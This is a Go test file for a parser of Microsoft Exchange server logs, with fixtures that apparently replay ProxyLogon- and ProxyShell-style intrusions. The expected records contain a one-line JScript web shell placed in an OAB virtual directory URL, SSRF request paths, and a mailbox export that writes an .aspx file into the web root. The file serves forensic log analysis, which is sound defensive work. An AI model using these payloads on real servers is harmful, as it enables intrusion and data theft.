package logs

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func openFixture(t *testing.T, path string) *Reader {
	t.Helper()
	r, err := Open(path, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { r.Close() })
	return r
}

func TestHttpProxyFixture(t *testing.T) {
	r := openFixture(t, "testdata/exchange/Logging/HttpProxy/Ecp/HttpProxy_2021030503-1.LOG")
	if got := r.Coverage().Kind; got != (Kind{Type: TypeHttpProxy, Protocol: "Ecp", LogType: "HttpProxy Logs"}) {
		t.Errorf("kind = %+v", got)
	}
	got := drain(t, r, "UrlStem", "AnchorMailbox", "ClientIPAddress", "HttpStatus", "AuthenticatedUser", "UserAgent", "GenericErrors")
	ssrf := func(line int64, tm, anchor, ua, status string) recSum {
		return recSum{Line: line, Time: tm, F: map[string]string{"UrlStem": "/ecp/y.js", "AnchorMailbox": "ServerInfo~a]@exch01.contoso.local:444/" + anchor,
			"ClientIPAddress": "192.0.2.10", "HttpStatus": status, "AuthenticatedUser": "", "UserAgent": ua, "GenericErrors": ""}}
	}
	want := []recSum{
		ssrf(6, "2021-03-05T03:06:10.101Z", "autodiscover/autodiscover.xml?#", "ExchangeServicesClient/0.0.0.0", "200"),
		ssrf(7, "2021-03-05T03:06:11.202Z", "mapi/emsmdb/?#", "python-requests/2.25.1", "200"),
		// Lines 8-10 are one record: a quoted GenericErrors with line
		// breaks, a comma and doubled quotes.
		ssrf(8, "2021-03-05T03:06:12.303Z", "ecp/proxyLogon.ecp?#", "python-requests/2.25.1", "241"),
		ssrf(11, "2021-03-05T03:06:13.404Z", "ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=Zm9vYmFy.&schema=OABVirtualDirectory#", "python-requests/2.25.1", "200"),
		ssrf(12, "2021-03-05T03:06:14.505Z", "ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Zm9vYmFy.&schema=ResetOABVirtualDirectory#", "python-requests/2.25.1", "200"),
		{Line: 13, Time: "2021-03-05T03:20:00Z", F: map[string]string{"UrlStem": "/ecp/default.aspx", "AnchorMailbox": "Smtp:admin@contoso.com",
			"ClientIPAddress": "192.0.2.10", "HttpStatus": "200", "AuthenticatedUser": "admin@contoso.com", "GenericErrors": "",
			"UserAgent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.82 Safari/537.36"}},
	}
	want[2].F["GenericErrors"] = "Exception=System.Web.HttpException: \"proxyLogon failed\",\r\n   at Microsoft.Exchange.HttpProxy.ProxyRequestHandler.<>c__DisplayClass.b__0()\r\ncontinued"
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("records (-want +got):\n%s", diff)
	}
	wantCov := covSum{Lines: 13, Directives: 5, Headers: 1, Records: 6, First: "2021-03-05T03:06:10.101Z", Last: "2021-03-05T03:20:00Z"}
	if diff := cmp.Diff(wantCov, summarize(r.Coverage())); diff != "" {
		t.Errorf("coverage (-want +got):\n%s", diff)
	}
	c := r.Coverage()
	if c.Version != "15.01.2176.002" || c.LogType != "HttpProxy Logs" || c.Software != "Microsoft Exchange Server" {
		t.Errorf("directives: %q %q %q", c.Software, c.Version, c.LogType)
	}
}

// Column sets differ by build: the same names sit at other positions, and
// some are missing.
func TestHttpProxyOlderBuild(t *testing.T) {
	r := openFixture(t, "testdata/exchange/Logging/HttpProxy/Owa/HttpProxy_2021030207-1.LOG")
	if !r.Next() {
		t.Fatal("no record")
	}
	rec := r.Record()
	lk := NewLookup("AnchorMailbox", "UrlHost", "RoutingType", "RoutingHint", "UrlStem", "HttpStatus")
	ix := lk.For(rec.Header)
	if diff := cmp.Diff([]int{14, -1, -1, 25, 8, 18}, ix); diff != "" {
		t.Errorf("indexes (-want +got):\n%s", diff)
	}
	got := []string{string(rec.Get(ix[0])), string(rec.Get(ix[1])), string(rec.Get(ix[3])), string(rec.Get(ix[4])), string(rec.Get(ix[5]))}
	want := []string{"ServerInfo~localhost/ecp/default.flt?", "", "X-AnonResource-Backend-Cookie", "/owa/auth/x.js", "500"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("values (-want +got):\n%s", diff)
	}
	if r.Record().Header.Version != "15.00.1497.002" {
		t.Errorf("header version %q", rec.Header.Version)
	}
	// The same Lookup against the current layout resolves elsewhere.
	cur := openFixture(t, "testdata/exchange/Logging/HttpProxy/Ecp/HttpProxy_2021030503-1.LOG")
	if !cur.Next() {
		t.Fatal("no record")
	}
	if diff := cmp.Diff([]int{15, 8, 26, 27, 9, 19}, lk.For(cur.Record().Header)); diff != "" {
		t.Errorf("indexes, current layout (-want +got):\n%s", diff)
	}
}

func TestECPServerFixture(t *testing.T) {
	r := openFixture(t, "testdata/exchange/Logging/ECP/Server/ECPServer20210305-1.LOG")
	if got := r.Coverage().Kind.Type; got != TypeECPServer {
		t.Errorf("type = %v", got)
	}
	got := drain(t, r, "ServerName", "EventId", "EventData")
	ev := func(line int64, tm, data string) recSum {
		return recSum{Line: line, Time: tm, F: map[string]string{"ServerName": "EXCH01", "EventId": "ECP.Request", "EventData": data}}
	}
	want := []recSum{
		ev(6, "2021-03-05T03:06:14.6Z", "S:TIME=13;S:SID=00000000-0000-0000-0000-000000000000;S:CMD=Get-OabVirtualDirectory.Identity='x';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=Zm9vYmFy.&schema=OABVirtualDirectory;S:REFERRER=;S:EX=;S:RS=0;S:BLD=15.1.2176.2"),
		ev(7, "2021-03-05T03:06:15.7Z", `S:TIME=42;S:SID=00000000-0000-0000-0000-000000000000;S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>''.Identity=''3a7f4c2e-1d2b-4c5d-9e8f-0a1b2c3d4e5f'';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Zm9vYmFy.&schema=OABVirtualDirectory;S:EX=;S:RS=0;S:BLD=15.1.2176.2`),
		ev(8, "2021-03-05T03:06:16.8Z", "S:TIME=20;S:CMD=Set-OabVirtualDirectory.ExternalUrl=$null.Identity=''3a7f4c2e-1d2b-4c5d-9e8f-0a1b2c3d4e5f'';S:RS=0"),
		ev(9, "2021-03-05T03:06:17.9Z", "S:TIME=7;S:CMD=Get-InboxRule;S:EX=System.Exception: a message that spans\r\ntwo lines, with a comma;S:RS=1"),
		// Line 11 opens a quote that never closes: only that line is lost.
		ev(12, "2021-03-05T03:06:19Z", "S:TIME=5;S:CMD=Get-User;S:RS=0"),
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("records (-want +got):\n%s", diff)
	}
	wantCov := covSum{Lines: 12, Directives: 5, Headers: 1, Records: 5, Malformed: 1,
		First: "2021-03-05T03:06:14.6Z", Last: "2021-03-05T03:06:19Z", Issues: []string{"11:unterminated-quote"}}
	if diff := cmp.Diff(wantCov, summarize(r.Coverage())); diff != "" {
		t.Errorf("coverage (-want +got):\n%s", diff)
	}
}

func TestOABGeneratorFixture(t *testing.T) {
	r := openFixture(t, "testdata/exchange/Logging/OABGeneratorLog/OABGeneratorLog_2021030503-1.LOG")
	if got := r.Coverage().Kind.Type; got != TypeOABGenerator {
		t.Errorf("type = %v", got)
	}
	var msgs []string
	for r.Next() {
		msgs = append(msgs, string(r.Record().Lookup("Message")))
	}
	want := []string{
		`Download completed for 'C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\Temp\oab.xml'`,
		`Download failed and temporary file 'C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\Temp\x.tmp' needs to be removed`,
		`Download failed and temporary file 'C:\inetpub\wwwroot\aspnet_client\shell.aspx' needs to be removed`,
	}
	if diff := cmp.Diff(want, msgs); diff != "" {
		t.Errorf("messages (-want +got):\n%s", diff)
	}
}

func TestCmdletFixture(t *testing.T) {
	r := openFixture(t, "testdata/exchange/Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2021081310-1.LOG")
	if got := r.Coverage().Kind.Type; got != TypeCmdlet {
		t.Errorf("type = %v", got)
	}
	got := drain(t, r, "Cmdlet", "Parameters", "ExecutionResult", "ProcessName")
	want := []recSum{
		{Line: 7, Time: "2021-08-13T10:01:02.345Z", F: map[string]string{"Cmdlet": "New-ManagementRoleAssignment",
			"Parameters": `-Role "Mailbox Import Export" -SecurityGroup "Organization Management"`, "ExecutionResult": "Success", "ProcessName": "w3wp#MSExchangePowerShellAppPool"}},
		{Line: 8, Time: "2021-08-13T10:02:03.456Z", F: map[string]string{"Cmdlet": "New-MailboxExportRequest",
			"Parameters":      `-Mailbox "Jones" -Name "x" -ContentFilter "Subject -eq 'x'" -FilePath "\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\tkevsn.aspx"`,
			"ExecutionResult": "Error", "ProcessName": "w3wp#MSExchangePowerShellAppPool"}},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("records (-want +got):\n%s", diff)
	}
	// The bare CSV header line on line 1 and the #Fields line on line 6
	// name the same columns: one field set.
	wantCov := covSum{Lines: 8, Directives: 6, Headers: 1, Records: 2, First: "2021-08-13T10:01:02.345Z", Last: "2021-08-13T10:02:03.456Z"}
	if diff := cmp.Diff(wantCov, summarize(r.Coverage())); diff != "" {
		t.Errorf("coverage (-want +got):\n%s", diff)
	}
}

func TestCSVCases(t *testing.T) {
	const h = "#Fields: DateTime,A,B\n"
	tests := []struct {
		name   string
		in     string
		opts   *Options
		fields []string
		want   []recSum
		cov    covSum
	}{
		{
			name:   "field set changes mid-file",
			in:     h + "2021-03-05T01:00:00Z,a1,b1\n#Fields: B,C,TimeStamp\nb2,c2,2021-03-05T02:00:00.5Z\n",
			fields: []string{"A", "B", "C"},
			want: []recSum{
				{Line: 2, Time: "2021-03-05T01:00:00Z", F: map[string]string{"A": "a1", "B": "b1"}},
				{Line: 4, Time: "2021-03-05T02:00:00.5Z", F: map[string]string{"B": "b2", "C": "c2"}},
			},
			cov: covSum{Lines: 4, Directives: 2, Headers: 2, Records: 2, First: "2021-03-05T01:00:00Z", Last: "2021-03-05T02:00:00.5Z"},
		},
		{
			name:   "bare header line before data, repeated later",
			in:     "DateTime,A,B\n2021-03-05T01:00:00Z,a1,b1\nDateTime,A,B\n2021-03-05T01:00:01Z,a2,b2\n",
			fields: []string{"A"},
			want: []recSum{
				{Line: 2, Time: "2021-03-05T01:00:00Z", F: map[string]string{"A": "a1"}},
				{Line: 4, Time: "2021-03-05T01:00:01Z", F: map[string]string{"A": "a2"}},
			},
			cov: covSum{Lines: 4, Directives: 2, Headers: 1, Records: 2, First: "2021-03-05T01:00:00Z", Last: "2021-03-05T01:00:01Z"},
		},
		{
			name: "data before any header",
			in:   "2021-03-05T01:00:00Z,a1,b1\n",
			cov:  covSum{Lines: 1, Malformed: 1, Issues: []string{"1:no-header"}},
		},
		{
			name:   "names trimmed, looked up case-insensitively",
			in:     "#Fields: DateTime, ClientIpAddress ,B\n2021-03-05T01:00:00Z,192.0.2.1,b\n",
			fields: []string{"clientipaddress"},
			want:   []recSum{{Line: 2, Time: "2021-03-05T01:00:00Z", F: map[string]string{"clientipaddress": "192.0.2.1"}}},
			cov:    covSum{Lines: 2, Directives: 1, Headers: 1, Records: 1, First: "2021-03-05T01:00:00Z", Last: "2021-03-05T01:00:00Z"},
		},
		{
			name:   "field counts differ: kept when the time parses",
			in:     h + "2021-03-05T01:00:00Z,a\n2021-03-05T01:00:01Z,a,b,extra\nnot-a-time,a\n",
			fields: []string{"A", "B"},
			want: []recSum{
				{Line: 2, Time: "2021-03-05T01:00:00Z", F: map[string]string{"A": "a", "B": ""}},
				{Line: 3, Time: "2021-03-05T01:00:01Z", F: map[string]string{"A": "a", "B": "b"}},
			},
			cov: covSum{Lines: 4, Directives: 1, Headers: 1, Records: 2, Malformed: 1, Repaired: 2,
				First: "2021-03-05T01:00:00Z", Last: "2021-03-05T01:00:01Z",
				Issues: []string{"2:field-count", "3:field-count", "4:field-count"}},
		},
		{
			name:   "bad time keeps the record",
			in:     h + "2021-13-05T01:00:00Z,a,b\n",
			fields: []string{"A"},
			want:   []recSum{{Line: 2, F: map[string]string{"A": "a"}}},
			cov:    covSum{Lines: 2, Directives: 1, Headers: 1, Records: 1, Repaired: 1, Issues: []string{"2:bad-time"}},
		},
		{
			name:   "time zones and precision",
			in:     h + "2021-03-05T01:00:00.1234567Z,a,b\n2021-03-05T03:00:00+02:00,a,b\n2021-03-05 01:00:00,a,b\n",
			fields: []string{},
			want: []recSum{
				{Line: 2, Time: "2021-03-05T01:00:00.1234567Z", F: map[string]string{}},
				{Line: 3, Time: "2021-03-05T01:00:00Z", F: map[string]string{}},
				{Line: 4, Time: "2021-03-05T01:00:00Z", F: map[string]string{}},
			},
			cov: covSum{Lines: 4, Directives: 1, Headers: 1, Records: 3, First: "2021-03-05T01:00:00Z", Last: "2021-03-05T01:00:00.1234567Z"},
		},
		{
			name:   "quoting: commas, doubled quotes, empty, stray quotes",
			in:     h + "2021-03-05T01:00:00Z,\"x,\"\"y\"\"\",\"\"\n2021-03-05T01:00:01Z,a\"b,\"c\"d\"\n2021-03-05T01:00:02Z,,\n",
			fields: []string{"A", "B"},
			want: []recSum{
				{Line: 2, Time: "2021-03-05T01:00:00Z", F: map[string]string{"A": `x,"y"`, "B": ""}},
				{Line: 3, Time: "2021-03-05T01:00:01Z", F: map[string]string{"A": `a"b`, "B": `c"d`}},
				{Line: 4, Time: "2021-03-05T01:00:02Z", F: map[string]string{"A": "", "B": ""}},
			},
			cov: covSum{Lines: 4, Directives: 1, Headers: 1, Records: 3, First: "2021-03-05T01:00:00Z", Last: "2021-03-05T01:00:02Z"},
		},
		{
			name:   "multi-line records keep the first line number",
			in:     h + "2021-03-05T01:00:00Z,\"l1\nl2\n\nl4\",b\n2021-03-05T01:00:01Z,a,\"\"\"\r\n\"\"\"\r\n",
			fields: []string{"A", "B"},
			want: []recSum{
				{Line: 2, Time: "2021-03-05T01:00:00Z", F: map[string]string{"A": "l1\nl2\n\nl4", "B": "b"}},
				{Line: 6, Time: "2021-03-05T01:00:01Z", F: map[string]string{"A": "a", "B": "\"\r\n\""}},
			},
			cov: covSum{Lines: 7, Directives: 1, Headers: 1, Records: 2, First: "2021-03-05T01:00:00Z", Last: "2021-03-05T01:00:01Z"},
		},
		{
			name:   "unterminated quote at EOF",
			in:     h + "2021-03-05T01:00:00Z,a,b\n2021-03-05T01:00:01Z,\"open\n",
			fields: []string{"A"},
			want:   []recSum{{Line: 2, Time: "2021-03-05T01:00:00Z", F: map[string]string{"A": "a"}}},
			cov: covSum{Lines: 3, Directives: 1, Headers: 1, Records: 1, Malformed: 1, First: "2021-03-05T01:00:00Z", Last: "2021-03-05T01:00:00Z",
				Issues: []string{"3:unterminated-quote"}},
		},
		{
			name: "multi-line record longer than MaxLine: first line dropped, reading resumes on the next",
			in: h + "2021-03-05T01:00:00Z,\"never closed\n" +
				"2021-03-05T01:00:01Z,a1,b1\n2021-03-05T01:00:02Z,a2,b2\n2021-03-05T01:00:03Z,a3,b3\n",
			opts:   &Options{MaxLine: 64},
			fields: []string{"A"},
			want: []recSum{
				{Line: 3, Time: "2021-03-05T01:00:01Z", F: map[string]string{"A": "a1"}},
				{Line: 4, Time: "2021-03-05T01:00:02Z", F: map[string]string{"A": "a2"}},
				{Line: 5, Time: "2021-03-05T01:00:03Z", F: map[string]string{"A": "a3"}},
			},
			cov: covSum{Lines: 5, Directives: 1, Headers: 1, Records: 3, Malformed: 1, First: "2021-03-05T01:00:01Z", Last: "2021-03-05T01:00:03Z",
				Issues: []string{"2:unterminated-quote"}},
		},
		{
			name:   "overlong CSV line",
			in:     h + "2021-03-05T01:00:00Z," + strings.Repeat("a", 100) + ",b\n2021-03-05T01:00:01Z,ok,b\n",
			opts:   &Options{MaxLine: 64},
			fields: []string{"A"},
			want:   []recSum{{Line: 3, Time: "2021-03-05T01:00:01Z", F: map[string]string{"A": "ok"}}},
			cov: covSum{Lines: 3, Directives: 1, Headers: 1, Records: 1, Malformed: 1, First: "2021-03-05T01:00:01Z", Last: "2021-03-05T01:00:01Z",
				Issues: []string{"2:overlong-line"}},
		},
		{
			name:   "#Log-type and #Version recorded in the header",
			in:     "#Software: Microsoft Exchange Server\n#Version: 15.02.0858.005\n#Log-type: ECP Server Log\n#Date: 2021-03-05T00:00:00.000Z\n#Fields: TimeStamp,ServerName,EventId,EventData\n2021-03-05T01:00:00Z,S,E,D\n",
			fields: []string{"EventData"},
			want:   []recSum{{Line: 6, Time: "2021-03-05T01:00:00Z", F: map[string]string{"EventData": "D"}}},
			cov:    covSum{Lines: 6, Directives: 5, Headers: 1, Records: 1, First: "2021-03-05T01:00:00Z", Last: "2021-03-05T01:00:00Z"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, cov := readString(t, tt.in, csvKind, tt.opts, tt.fields...)
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("records (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.cov, cov); diff != "" {
				t.Errorf("coverage (-want +got):\n%s", diff)
			}
		})
	}
}

func TestCSVHeaderDirectives(t *testing.T) {
	in := "#Software: Microsoft Exchange Server\n#Version: 15.02.0858.005\n#Log-type: ECP Server Log\n#Date: 2021-03-05T00:00:00.000Z\n#Fields: TimeStamp,ServerName,EventId,EventData\n2021-03-05T01:00:00Z,S,E,D\n"
	r := NewReader(strings.NewReader(in), "x", csvKind, nil)
	if !r.Next() {
		t.Fatal("no record")
	}
	h := r.Record().Header
	got := []string{h.Software, h.Version, h.LogType, h.Date}
	want := []string{"Microsoft Exchange Server", "15.02.0858.005", "ECP Server Log", "2021-03-05T00:00:00.000Z"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if h.Line != 5 || r.Header() != h {
		t.Errorf("header line %d", h.Line)
	}
}

// A record parsed in CSV mode whose bytes came from a file Sniff called
// W3C (or the reverse) is still parsed: each #Fields line decides.
func TestFormatFollowsFieldsLine(t *testing.T) {
	got, _ := readString(t, "#Fields: DateTime,A\n2021-03-05T01:00:00Z,a b\n", w3cKind, nil, "A")
	want := []recSum{{Line: 2, Time: "2021-03-05T01:00:00Z", F: map[string]string{"A": "a b"}}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}
